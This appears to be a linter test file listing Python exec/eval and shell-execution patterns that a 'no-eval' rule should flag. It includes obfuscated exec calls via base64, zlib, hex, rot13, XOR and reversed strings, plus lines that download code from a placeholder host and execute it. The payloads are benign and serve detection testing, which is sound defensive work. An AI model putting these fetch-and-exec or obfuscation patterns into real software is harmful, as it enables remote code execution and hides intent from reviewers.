import base64
import codecs
import gzip
import json
import os
import subprocess
import urllib.request
import zlib

import requests

exec(base64.b64decode("cHJpbnQoMSk="))  # BAD no-eval/python-eval
exec(zlib.decompress(base64.b64decode("eJwrKMrMK9Ew1AQADkwC3g==")))  # BAD no-eval/python-eval
exec(bytes.fromhex("7072696e74283129").decode())  # BAD no-eval/python-eval
exec(codecs.decode("cevag(1)", "rot13"))  # BAD no-eval/python-eval
exec("".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))  # BAD no-eval/python-eval
exec("".join([chr(ord(c) - 1) for c in "qsjou)2*"]))  # BAD no-eval/python-eval
exec(")1(tnirp"[::-1])  # BAD no-eval/python-eval
exec(requests.get("https://files.example.net/a.py").text)  # BAD no-eval/python-eval
exec(urllib.request.urlopen("https://files.example.net/a.py").read())  # BAD no-eval/python-eval
response = requests.Session().get("https://files.example.net/a.py")
eval(response.json()["code"])  # BAD no-eval/python-eval
eval(os.environ["CODE"])  # BAD no-eval/python-eval
eval(os.getenv("CODE", "1"))  # BAD no-eval/python-eval
exec(open("notes.txt").read())  # BAD no-eval/python-eval
exec(json.load(open("config.json"))["hook"])  # BAD no-eval/python-eval
exec(subprocess.check_output(["cat", "x"]))  # BAD no-eval/python-eval
key = 7
data = [119, 117, 110, 105, 115, 47, 54, 46]
exec("".join(chr(c ^ key) for c in data))  # BAD no-eval/python-eval
text = ""
for number in [112, 114, 105, 110, 116]:
    text += chr(number)
exec(text + "(1)")  # BAD no-eval/python-eval


def decode(blob):
    return gzip.decompress(base64.b64decode(blob)).decode()


exec(decode(open("blob").read()))  # BAD no-eval/python-eval
exec(compile(base64.b64decode(b"cHJpbnQoMSk="), "<string>", "exec"))  # BAD no-eval/python-eval
subprocess.run(input(), shell=True)  # BAD no-eval/program-text
os.system(json.loads(input())["command"])  # BAD no-eval/program-text
subprocess.run(["bash", "-c", input()])  # BAD no-eval/program-text
subprocess.run(["python3", "-c", os.environ["CODE"]])  # BAD no-eval/program-text
subprocess.run(["node", "-e", json.loads(input())["js"]])  # BAD no-eval/program-text
subprocess.run(["sh"], input=base64.b64decode("aWQ="))  # BAD no-eval/program-text
os.system(base64.b64decode("aWQ=").decode())  # BAD no-eval/program-text
